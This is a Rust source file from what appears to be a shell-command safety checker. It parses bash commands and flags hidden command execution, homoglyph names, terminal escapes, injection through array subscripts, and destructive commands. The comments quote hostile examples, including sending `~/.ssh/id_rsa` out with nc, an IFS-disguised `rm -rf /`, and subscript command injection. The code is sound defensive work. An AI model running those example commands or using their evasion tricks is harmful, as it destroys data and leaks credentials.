//! Simple commands as the walker meets them: their words (expanded, substitutions walked),
//! assignments, redirections, and the uses of options the table in `rules/options/` knows.

use super::*;

impl Walker<'_> {
    /// Judges one use of an option the table in `rules/options/` knows.
    pub(super) fn option_use(
        &mut self,
        name: &str,
        u: crate::options::Use,
        depth: usize,
        text: &str,
    ) {
        use crate::options::Use;
        match u {
            Use::Writes(path) => {
                self.write_target(&path);
                if self.opaque.len() < 16 {
                    self.opaque.push(written_key(&path).to_string());
                }
            }
            Use::Runs { command, hidden } => {
                if hidden {
                    self.engine(
                        "option_runs_command",
                        ReasonCode::DynamicCode,
                        (Decision::Ask, Tier::Medium, Severity::Medium),
                        format!("an option makes `{name}` run the shell command `{command}`; a person must look. Run the command directly if that is what you mean."),
                        "Options that run commands are a common way to hide one command inside another.",
                        text,
                    );
                }
                self.walk_script(&command, depth + 1);
            }
            Use::RunsProgram(program) => {
                self.engine(
                    "option_runs_program",
                    ReasonCode::DynamicCode,
                    (Decision::Ask, Tier::Medium, Severity::Medium),
                    format!("an option makes `{name}` execute the program `{program}` in place of its usual helper; a person must look."),
                    "Check what the named program is before approving.",
                    text,
                );
                self.run_argv(vec![program], depth + 1, None);
            }
            Use::Code(code) => {
                self.engine(
                    "option_code",
                    ReasonCode::InlineCode,
                    (Decision::Ask, Tier::Medium, Severity::Medium),
                    format!("an option gives `{name}` code to evaluate (`{code}`), which can run commands and change files; a person must look."),
                    "Read the code before approving; it runs with the user's rights.",
                    text,
                );
            }
        }
    }

    /// Analyses the command substitutions in text bash expands again (arithmetic, subscripts).
    pub(super) fn walk_nested(&mut self, text: &str, depth: usize) {
        let mut bodies = Vec::new();
        word::nested_substitutions(text, &mut bodies);
        for body in &bodies {
            self.walk_script(body, depth + 1);
        }
    }

    /// Analyses the command substitutions in a string bash may evaluate as an array subscript
    /// later (`printf -v 'a[$(cmd)]' x`, `x='a[$(cmd)]'; echo $((x))`).
    pub(super) fn walk_subscript(&mut self, text: &str, depth: usize) {
        for body in word::subscript_substitutions(text) {
            self.walk_script(&body, depth + 1);
        }
    }

    /// Expands a word and analyses the command substitutions inside it.
    pub(super) fn expand_word(&mut self, raw: &str, depth: usize) -> Expanded {
        let e = word::expand(raw, &self.env, &self.opts);
        for body in &e.substitutions {
            self.walk_script(body, depth + 1);
        }
        e
    }

    pub(super) fn span_of(&self, s: &ast::SimpleCommand) -> Option<Span> {
        let mut lo = usize::MAX;
        let mut hi = 0;
        let mut note = |w: &ast::Word| {
            if let Some(l) = &w.loc {
                lo = lo.min(l.start.index);
                hi = hi.max(l.end.index);
            }
        };
        if let Some(w) = &s.word_or_name {
            note(w);
        }
        for item in s
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .chain(s.suffix.iter().flat_map(|p| p.0.iter()))
        {
            match item {
                CommandPrefixOrSuffixItem::Word(w)
                | CommandPrefixOrSuffixItem::AssignmentWord(_, w) => note(w),
                _ => {}
            }
        }
        if lo == usize::MAX {
            return None;
        }
        // the parser counts characters; spans are bytes
        let byte = |ci: usize| {
            if self.input.is_ascii() {
                ci.min(self.input.len())
            } else {
                self.input
                    .char_indices()
                    .nth(ci)
                    .map(|(b, _)| b)
                    .unwrap_or(self.input.len())
            }
        };
        Some(Span::new(byte(lo), byte(hi)))
    }

    pub(super) fn walk_simple(&mut self, s: &ast::SimpleCommand, depth: usize) -> Stage {
        if depth == 0 {
            self.origin = self.span_of(s);
        }
        let mut argv: Vec<String> = Vec::new();
        let mut root_risk: Vec<String> = Vec::new();
        let mut feed: Option<String> = None;
        let mut redirects = Vec::new();
        // prefix (assignments, redirections), then the command word, then the suffix
        let prefix = s.prefix.iter().flat_map(|p| p.0.iter());
        let suffix = s.suffix.iter().flat_map(|p| p.0.iter());
        for item in prefix {
            self.walk_item(item, depth, &mut argv, &mut root_risk, &mut redirects, true);
        }
        if let Some(w) = &s.word_or_name {
            self.push_word(&w.value, depth, &mut argv, &mut root_risk);
        }
        for item in suffix {
            self.walk_item(
                item,
                depth,
                &mut argv,
                &mut root_risk,
                &mut redirects,
                false,
            );
        }
        let mut writes = false;
        self.redirect_targets.clear();
        self.input_sources.clear();
        for io in redirects {
            writes |= self.walk_redirect(io, depth, &mut feed);
        }
        let targets = std::mem::take(&mut self.redirect_targets);
        self.note_downloaded(&argv, &targets);
        self.note_written(&argv, feed.as_deref(), targets);
        if writes {
            self.all_read_only = false;
        }
        if argv.is_empty() {
            return Stage::default();
        }
        // builtins that take variable names evaluate a subscript in them when they run
        // (`printf -v 'a[$(cmd)]' x`, `unset`, `declare`, `read`, `test -v`)
        if matches!(
            argv[0].as_str(),
            "printf"
                | "declare"
                | "typeset"
                | "local"
                | "readonly"
                | "export"
                | "unset"
                | "read"
                | "test"
                | "["
                | "mapfile"
                | "readarray"
                | "let"
                | "getopts"
                | "shift"
                | "return"
                | "exit"
        ) {
            for a in &argv[1..] {
                self.walk_subscript(a, depth);
            }
        }
        // `xargs CMD < FILE` reads its words from FILE, unknown like `-a FILE`
        let stdin_file = !self.input_sources.is_empty();
        // `CMD < FILE` reads FILE like `cat FILE | CMD`: the secret-reading and exfiltration
        // rules judge it in that form (`nc host 80 < ~/.ssh/id_rsa`)
        if !self.input_sources.is_empty() {
            let consumer = canon::render(&argv);
            for f in std::mem::take(&mut self.input_sources) {
                let reader = format!("cat {}", canon::quote(&f));
                self.rule_hits(Target::Command, &reader);
                self.rule_hits(Target::Pipeline, &format!("{reader} | {consumer}"));
            }
        }
        if !root_risk.is_empty() && is_destructive(&argv) {
            let text = canon::join(&argv);
            self.engine(
                "unsafe_expansion",
                ReasonCode::UnsafeExpansion,
                (Decision::Ask, Tier::High, Severity::High),
                format!("`{}` starts with a variable that may be empty, so this destructive command could act on `/`. Use `${{VAR:?}}` so the shell stops when the variable is unset, or write the path literally.", root_risk.join(" ")),
                "Check that the variable is always set; an empty value turns the path into the root.",
                &text,
            );
        }
        // look-alike letters in the command word
        if let Some(folded) = argv.first().and_then(|w| evasion::fold_confusables(w)) {
            let text = canon::join(&argv);
            self.engine(
                "confusable_command",
                ReasonCode::ConfusableCommand,
                (Decision::Ask, Tier::High, Severity::High),
                format!("the command name contains look-alike or invisible Unicode characters (it reads as `{folded}`); a person must look. Type the command name in plain ASCII."),
                "Homoglyphs in a command name are used to slip past pattern checks and human review.",
                &text,
            );
            argv[0] = folded;
        }
        let before = std::mem::replace(&mut self.stdin_file, stdin_file);
        let stage = self.run_argv(argv, depth, feed.as_deref());
        self.stdin_file = before;
        stage
    }

    #[allow(clippy::too_many_arguments)]
    pub(super) fn walk_item<'i>(
        &mut self,
        item: &'i CommandPrefixOrSuffixItem,
        depth: usize,
        argv: &mut Vec<String>,
        root_risk: &mut Vec<String>,
        redirects: &mut Vec<&'i IoRedirect>,
        in_prefix: bool,
    ) {
        match item {
            CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                if in_prefix {
                    self.assign(a, depth);
                } else {
                    // `export a=b`: an argument that looks like an assignment
                    self.push_word(&w.value, depth, argv, root_risk);
                }
            }
            CommandPrefixOrSuffixItem::IoRedirect(io) => redirects.push(io),
            CommandPrefixOrSuffixItem::Word(w) => self.push_word(&w.value, depth, argv, root_risk),
            CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub) => {
                let st = self.walk_list(&sub.list, depth + 1);
                let text = proc_sub_text(kind, &st);
                if matches!(kind, ast::ProcessSubstitutionKind::Read)
                    && self.proc_programs.len() < 16
                    && let Some(program) = st.emits
                {
                    self.proc_programs.push((text.clone(), program));
                }
                argv.push(text);
            }
        }
    }

    pub(super) fn push_word(
        &mut self,
        raw: &str,
        depth: usize,
        argv: &mut Vec<String>,
        root_risk: &mut Vec<String>,
    ) {
        let e = self.expand_word(raw, depth);
        if e.text
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\n' | '\t'))
        {
            self.engine(
                "terminal_deception",
                ReasonCode::TerminalDeception,
                (Decision::Ask, Tier::High, Severity::High),
                "an argument expands to terminal escape sequences or control characters, which can rewrite what a terminal shows; a person must look. Remove them.".to_string(),
                "Inspect what the escapes do before approving (for example with `cat -v`).",
                raw,
            );
        }
        if e.root_risk {
            root_risk.push(e.text.clone());
        }
        // with IFS set to a constant, an unquoted expansion splits on its characters
        // (`IFS=,; c=rm,-rf,/; $c` runs `rm -rf /`)
        if !e.quoted
            && raw.contains('$')
            && let Some(ifs) = self.env.get("IFS").filter(|v| !v.is_empty())
            && e.text.contains(|c| ifs.contains(c))
        {
            let ifs = ifs.clone();
            argv.extend(
                e.text
                    .split(|c| ifs.contains(c))
                    .filter(|w| !w.is_empty())
                    .map(String::from),
            );
            return;
        }
        if e.text.contains(word::IFS_SPLIT) {
            argv.extend(
                e.text
                    .split(word::IFS_SPLIT)
                    .filter(|w| !w.is_empty())
                    .map(String::from),
            );
            return;
        }
        if !e.quoted
            && !e.dynamic
            && let Some(words) = word::brace_expand(&e.text)
        {
            argv.extend(words);
            return;
        }
        argv.push(e.text);
    }

    pub(super) fn assign(&mut self, a: &ast::Assignment, depth: usize) {
        let name = match &a.name {
            ast::AssignmentName::VariableName(n) => n.clone(),
            ast::AssignmentName::ArrayElementName(n, index) => {
                self.walk_nested(index, depth);
                if let ast::AssignmentValue::Scalar(w) = &a.value {
                    let e = self.expand_word(&w.value, depth);
                    self.walk_subscript(&e.text, depth);
                }
                self.env.remove(n);
                return;
            }
        };
        match &a.value {
            ast::AssignmentValue::Scalar(w) => {
                let e = self.expand_word(&w.value, depth);
                self.walk_subscript(&e.text, depth);
                // what is assigned can matter by itself (a literal secret, a look-alike URL)
                let text = format!("{name}={}", canon::quote(&e.text));
                self.rule_hits(Target::Command, &text);
                // bash runs PROMPT_COMMAND before every prompt; git, less, man and editors
                // run the programs other variables name
                if runs_value(&name) && !e.text.is_empty() {
                    self.walk_script(e.text.trim_start_matches('|'), depth + 1);
                }
                if e.dynamic || a.append {
                    self.env.remove(&name);
                } else {
                    // an assignment is not split into words
                    self.env.insert(name, e.text.replace(word::IFS_SPLIT, " "));
                }
            }
            ast::AssignmentValue::Array(items) => {
                // a constant list (`a=(rm -rf ~)`) is kept element by element, so
                // `"${a[@]}"` and `${a[0]}` expand to what bash runs
                let mut words = Some(Vec::new());
                for (key, w) in items {
                    if let Some(k) = key {
                        self.walk_nested(&k.value, depth);
                        words = None;
                    }
                    let e = self.expand_word(&w.value, depth);
                    self.walk_subscript(&e.text, depth);
                    match &mut words {
                        Some(list) if !e.dynamic && !a.append => list.extend(
                            e.text
                                .split(word::IFS_SPLIT)
                                .filter(|w| !w.is_empty())
                                .map(String::from),
                        ),
                        _ => words = None,
                    }
                }
                let all = format!("{name}[@]");
                match words {
                    Some(list) if !list.is_empty() && list.len() <= 64 => {
                        self.env.insert(name.clone(), list[0].clone());
                        self.env
                            .insert(all, list.join(&word::IFS_SPLIT.to_string()));
                    }
                    _ => {
                        self.env.remove(&name);
                        self.env.remove(&all);
                    }
                }
            }
        }
    }

    /// Walks one redirection; returns whether it writes to a file.
    pub(super) fn walk_redirect(
        &mut self,
        io: &IoRedirect,
        depth: usize,
        feed: &mut Option<String>,
    ) -> bool {
        match io {
            IoRedirect::File(_, kind, target) => {
                let writes = matches!(
                    kind,
                    IoFileRedirectKind::Write
                        | IoFileRedirectKind::Append
                        | IoFileRedirectKind::Clobber
                        | IoFileRedirectKind::ReadAndWrite
                );
                match target {
                    IoFileRedirectTarget::Filename(w) => {
                        let e = self.expand_word(&w.value, depth);
                        if writes {
                            return self.write_target(&e.text);
                        }
                        if matches!(kind, IoFileRedirectKind::Read) && self.input_sources.len() < 8
                        {
                            self.input_sources.push(e.text);
                        }
                        false
                    }
                    IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        self.walk_list(&sub.list, depth + 1);
                        false
                    }
                    // `>& WORD` where WORD is not a descriptor (`2`, `-`, `3-`) sends both
                    // output streams to the file WORD, like `&> WORD`
                    IoFileRedirectTarget::Duplicate(w) => {
                        let e = self.expand_word(&w.value, depth);
                        let fd = e.text.trim_end_matches('-');
                        if matches!(kind, IoFileRedirectKind::DuplicateOutput)
                            && !e.text.is_empty()
                            && !e.dynamic
                            && !fd.bytes().all(|b| b.is_ascii_digit())
                        {
                            return self.write_target(&e.text);
                        }
                        false
                    }
                    IoFileRedirectTarget::Fd(_) => false,
                }
            }
            IoRedirect::OutputAndError(w, _) => {
                let e = self.expand_word(&w.value, depth);
                self.write_target(&e.text)
            }
            IoRedirect::HereString(_, w) => {
                let e = self.expand_word(&w.value, depth);
                *feed = Some(e.text);
                false
            }
            IoRedirect::HereDocument(_, doc) => {
                let body = doc.doc.value.clone();
                if doc.requires_expansion
                    && let Ok(pieces) = brush_parser::word::parse_heredoc(&body, &self.opts)
                {
                    let mut bodies = Vec::new();
                    word::substitutions_in_pieces(&body, &pieces, &mut bodies);
                    for s in &bodies {
                        self.walk_script(s, depth + 1);
                    }
                }
                *feed = Some(body);
                false
            }
        }
    }

    /// Judges an output redirection target; returns whether it writes to a real file.
    pub(super) fn write_target(&mut self, path: &str) -> bool {
        if matches!(
            path,
            "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty"
        ) || path.starts_with('&')
        {
            return false;
        }
        if self.redirect_targets.len() < 8 {
            self.redirect_targets.push(path.to_string());
        }
        self.rule_hits(Target::Redirect, path);
        if let Some(f) = crate::paths::write_target_finding(path, None) {
            self.add(f, path);
        }
        // extracting or copying into `~/.claude` can replace its settings: the whole directory
        if let Some(f) = crate::paths::guard_change_finding(path, None) {
            self.add(f, path);
        }
        true
    }
}

fn proc_sub_text(kind: &ast::ProcessSubstitutionKind, st: &Stage) -> String {
    let open = match kind {
        ast::ProcessSubstitutionKind::Read => "<(",
        ast::ProcessSubstitutionKind::Write => ">(",
    };
    format!("{open}{})", st.texts.join("; "))
}

/// Commands that delete or overwrite what their arguments name.
fn is_destructive(argv: &[String]) -> bool {
    let name = unwrap::base(&argv[0]);
    let recursive = argv[1..].iter().any(|a| {
        a == "--recursive"
            || a == "-R"
            || (a.starts_with('-') && !a.starts_with("--") && (a.contains('r') || a.contains('R')))
    });
    match name {
        "rm" | "shred" | "unlink" | "rmdir" | "srm" | "wipe" => true,
        "chmod" | "chown" | "chgrp" | "setfacl" => recursive,
        "find" => argv.iter().any(|a| a == "-delete" || a == "-exec"),
        "mv" | "rsync" | "dd" | "truncate" => true,
        _ => false,
    }
}

/// Variables whose value is a shell command some program runs: bash's `PROMPT_COMMAND`, git's
/// ssh, proxy, diff, pager and editor commands, `LESSOPEN`/`LESSCLOSE` input filters (`|CMD`),
/// and the pager, editor and browser other tools start.
pub(super) fn runs_value(name: &str) -> bool {
    matches!(
        name,
        "PROMPT_COMMAND"
            | "GIT_SSH_COMMAND"
            | "GIT_SSH"
            | "GIT_PROXY_COMMAND"
            | "GIT_EXTERNAL_DIFF"
            | "GIT_PAGER"
            | "GIT_EDITOR"
            | "GIT_SEQUENCE_EDITOR"
            | "GIT_ASKPASS"
            | "SSH_ASKPASS"
            | "PAGER"
            | "MANPAGER"
            | "EDITOR"
            | "VISUAL"
            | "BROWSER"
            | "LESSOPEN"
            | "LESSCLOSE"
            | "SUDO_EDITOR"
            | "FCEDIT"
            | "SYSTEMD_EDITOR"
            | "SYSTEMD_PAGER"
            | "KUBE_EDITOR"
            | "BAT_PAGER"
            | "DIFFPROG"
    )
}
